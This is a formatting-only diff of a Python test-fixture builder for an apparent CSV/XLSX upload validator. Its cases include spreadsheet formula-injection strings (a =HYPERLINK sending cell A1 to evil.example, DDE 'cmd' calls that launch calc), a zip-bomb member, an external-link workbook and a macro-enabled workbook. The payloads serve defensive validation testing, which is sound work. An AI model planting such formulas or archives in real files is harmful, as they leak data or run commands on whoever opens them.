@@ -43,8 +43,13 @@ CASES: tuple[Case, ...] = (
     Case("columns_600.csv", "reject", "600 columns in the header"),
     Case("columns_1e6.csv", "reject", "10^6 columns", big=True),
     Case("cell_10mb_line.csv", "reject", "one 10 MB unquoted cell", big=True),
-    Case("cell_10mb_quoted.csv", "reject", "one 10 MB quoted multi-line cell", big=True,
-         field="Assault_Location_Description"),
+    Case(
+        "cell_10mb_quoted.csv",
+        "reject",
+        "one 10 MB quoted multi-line cell",
+        big=True,
+        field="Assault_Location_Description",
+    ),
     Case("garbage_nul.csv", "reject", "random bytes with NULs"),
     Case("garbage_no_nul.csv", "reject", "random bytes without NULs"),
     Case("png_named.csv", "reject", "a PNG image renamed .csv"),
@@ -54,14 +59,30 @@ CASES: tuple[Case, ...] = (
     Case("mixed_encoding.csv", "store", "UTF-8 lines and Windows-1252 lines in one file"),
     Case("header_only.csv", "reject", "a header and no data rows"),
     Case("formulas.csv", "store", "=HYPERLINK, +cmd|, -2+3, @SUM in free text"),
-    Case("contradicts_department.csv", "reject", "the form names another department",
-         field="Site_Code_of_Treatment", form=(("department", "RJZ01"),)),
-    Case("contradicts_period.csv", "reject", "the form names another month",
-         field="Reporting_Period_Start_Date", form=(("period", "2025-03"),)),
+    Case(
+        "contradicts_department.csv",
+        "reject",
+        "the form names another department",
+        field="Site_Code_of_Treatment",
+        form=(("department", "RJZ01"),),
+    ),
+    Case(
+        "contradicts_period.csv",
+        "reject",
+        "the form names another month",
+        field="Reporting_Period_Start_Date",
+        form=(("period", "2025-03"),),
+    ),
 )
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+)
 
 
 def _base_lines() -> list[str]:
@@ -107,8 +128,12 @@ def _xlsx(formula_rows: bool = False) -> bytes:
     return buf.getvalue()
 
 
-def _rezip(data: bytes, extra: dict[str, bytes], ctype_extra: bytes = b"",
-           big_member: tuple[str, int] | None = None) -> bytes:
+def _rezip(
+    data: bytes,
+    extra: dict[str, bytes],
+    ctype_extra: bytes = b"",
+    big_member: tuple[str, int] | None = None,
+) -> bytes:
     src = zipfile.ZipFile(io.BytesIO(data))
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
@@ -135,19 +160,26 @@ def build(name: str) -> bytes:
     if name == "xlsx_zip_bomb.xlsx":
         return _rezip(_xlsx(), {}, big_member=("xl/media/image1.bin", 300 << 20))
     if name == "xlsx_external_link.xlsx":
-        link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink '
-                b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-                b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
-                b'officeDocument/2006/relationships"/></externalLink>')
-        ct = (b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
-              b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>')
+        link = (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink '
+            b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships"/></externalLink>'
+        )
+        ct = (
+            b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
+            b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
+        )
         return _rezip(_xlsx(), {"xl/externalLinks/externalLink1.xml": link}, ct)
     if name == "xlsx_macro.xlsx":
-        ct = (b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
-              b'<Override PartName="/xl/workbook.xml" ContentType="application/'
-              b'vnd.ms-excel.sheet.macroEnabled.main+xml"/>')
-        return _rezip(_xlsx(), {"xl/vbaProject.bin": bytes(rnd.getrandbits(8)
-                                                          for _ in range(2048))}, ct)
+        ct = (
+            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+            b'<Override PartName="/xl/workbook.xml" ContentType="application/'
+            b'vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
+        )
+        return _rezip(
+            _xlsx(), {"xl/vbaProject.bin": bytes(rnd.getrandbits(8) for _ in range(2048))}, ct
+        )
     if name == "xlsx_formula_cells.xlsx":
         return _xlsx(formula_rows=True)
     if name == "columns_600.csv":
@@ -170,7 +202,8 @@ def build(name: str) -> bytes:
         return ("\n".join(lines) + "\n").encode("utf-16")  # BOM + native order
     if name == "utf16_bom_broken.csv":
         return ("\n".join(lines[:10]) + "\n").encode("utf-16-le").join(
-            [b"\xff\xfe", b""]) + b"\x00\xd8A\x00\n\x00"  # lone high surrogate
+            [b"\xff\xfe", b""]
+        ) + b"\x00\xd8A\x00\n\x00"  # lone high surrogate
     if name == "utf16_no_bom.csv":
         return ("\n".join(lines) + "\n").encode("utf-16-le")
     if name == "mixed_encoding.csv":
